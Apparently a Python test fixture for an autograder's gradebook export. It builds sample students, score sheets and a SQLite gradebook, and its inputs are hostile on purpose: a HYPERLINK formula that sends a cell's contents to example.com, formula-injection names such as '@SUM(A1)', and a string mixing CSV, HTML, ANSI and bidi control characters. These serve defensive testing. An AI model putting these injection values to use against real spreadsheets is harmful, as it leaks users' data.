"""A class in which everything happens, with and without a gradebook."""

from __future__ import annotations

import sqlite3
from datetime import datetime
from pathlib import Path

from plugin.conftest import Course

from autograder.exports.entries import Entry
from autograder.plugin.gradebook import write
from autograder.records import Check, Comparison, Diagnosis, Outcome, Part, ScoreSheet, Submission, Text

PARTS = tuple(Part(name, 2.0) for name in ("forward", "loss", "update", "zero_grad", "training"))
WANTED = 7.654321
"""What no student may see before the policy allows it."""
SECRET = "only the instructor reads this"
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'
HOSTILE = 'a,"b";\r\n<b>c</b> & \x1b[31mred\x00\ud800 \u202eabc'
HEBREW, EMOJI = "שלום, עולם", "👩‍🎓 Ada"


def outcome(part: Part, verdict: str = "passed", message: str = "") -> Outcome:
    check = Check(f"test_{part.name}", Text(f"{part.name} does its work", f"{part.name} 正确"), part.name, part.points)
    if verdict == "passed":
        return Outcome(check, "passed", part.points)
    comparison = Comparison("gradient of w", "step 2", None, WANTED)
    return Outcome(check, verdict, 0.0, message, comparison, SECRET)


def sheet(student: str, wrong: str = "", verdict: str = "failed", message: str = "w moved by 2") -> ScoreSheet:
    """Everything right but the part `wrong`."""
    outcomes = tuple(outcome(part, verdict if part.name == wrong else "passed", message) for part in PARTS)
    advice = Text("The gradient is never zeroed.", "梯度从未清零。")
    named = (Diagnosis(("never_zeroes",), (wrong,), advice, "step 2: −9.84"),) if wrong == "zero_grad" else ()
    return ScoreSheet(Submission(student, "linear", ()), "graded", PARTS, outcomes, named, seconds=1.25)


def waiting(student: str) -> ScoreSheet:
    fault = f"The box could not be started.\n  got: {SECRET}"
    return ScoreSheet(Submission(student, "linear", ()), "needs_attention", PARTS, fault=fault)


def entry(student: str, score: float | None, graded: ScoreSheet | None = None, **rest) -> Entry:
    points = {part.name: graded.earned(part.name) for part in PARTS} if graded else {}
    state = "graded" if score is not None else "missing"
    return Entry(**{"student": student, "assignment": "linear", "state": state, "max_score": 10.0, "score": score,
                    "points": points, "sheet": graded, **rest})  # fmt: skip


CLASS = (
    entry("ada", 10.0, sheet("ada"), last_name="Lovelace", first_name=EMOJI, lms_id="4711", email="ada@example.org"),
    entry("bob", 6.5, sheet("bob", "zero_grad"), last_name=FORMULA, penalty=1.5, submitted=datetime(2026, 3, 2, 12)),
    entry("carol", 8.0, sheet("carol", "training", "not_reached", HOSTILE), last_name=HOSTILE, lms_id="12ab"),
    entry("dan", None, waiting("dan"), last_name="-1+1", state="needs_attention", reason=waiting("dan").fault),
    entry("erin", None, last_name=HEBREW, first_name="@SUM(A1)"),
    entry("fay", 1 / 3, sheet("fay", "loss", message=FORMULA), last_name="O'Brien", first_name="+1"),
)


def hand_in(course: Course) -> None:
    """ada changed by hand, bob late, carol needs attention, dan the same but graded by hand, fay not graded yet."""
    for student in ("ada", "bob", "carol", "dan", "fay"):
        course.hand_in(student)
    sheets = [sheet("ada"), sheet("bob", "zero_grad"), waiting("carol"), waiting("dan")]
    write(course.folder, course.assignment, sheets)
    with sqlite3.connect(course.folder / "gradebook.db") as book:
        people = [
            ("erin", FORMULA, HEBREW, None, None),
            ("fay", HOSTILE.encode("utf-8", "replace").decode(), "", "", ""),
        ]
        book.executemany(
            "insert into student (id, last_name, first_name, email, lms_user_id) values (?,?,?,?,?)", people
        )
        book.execute("update student set lms_user_id = '4711', first_name = ? where id = 'ada'", (EMOJI,))
        book.execute(_manual("forward", "ada", 1.5))
        book.execute(_grades("extra_credit = 0.25", "loss", "ada"))
        book.execute(f"update submitted_notebook set late_submission_penalty = 1.5 where {_of('id', 'bob')}")
        for part in PARTS:
            book.execute(_manual(part.name, "dan", 1.0))


def scores(folder: Path) -> dict[str, float]:
    """What the gradebook's tables add up to, by student, less the penalty."""
    with sqlite3.connect(folder / "gradebook.db") as book:
        return dict(book.execute(
            "select a.student_id, sum(coalesce(g.manual_score, g.auto_score) + coalesce(g.extra_credit, 0))"
            " - coalesce(n.late_submission_penalty, 0) from grade g join submitted_notebook n on g.notebook_id = n.id"
            " join submitted_assignment a on n.assignment_id = a.id group by a.student_id"
        ))  # fmt: skip


def _manual(part: str, student: str, points: float) -> str:
    return _grades(f"manual_score = {points}, needs_manual_grade = 0", part, student)


def _grades(change: str, part: str, student: str) -> str:
    cells = f"select id from base_cell where name = '{part}' and type = 'GradeCell'"
    return f"update grade set {change} where {_of('notebook_id', student)} and cell_id in ({cells})"


def _of(column: str, student: str) -> str:
    return (
        f"{column} in (select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id"
        f" where a.student_id = '{student}')"
    )
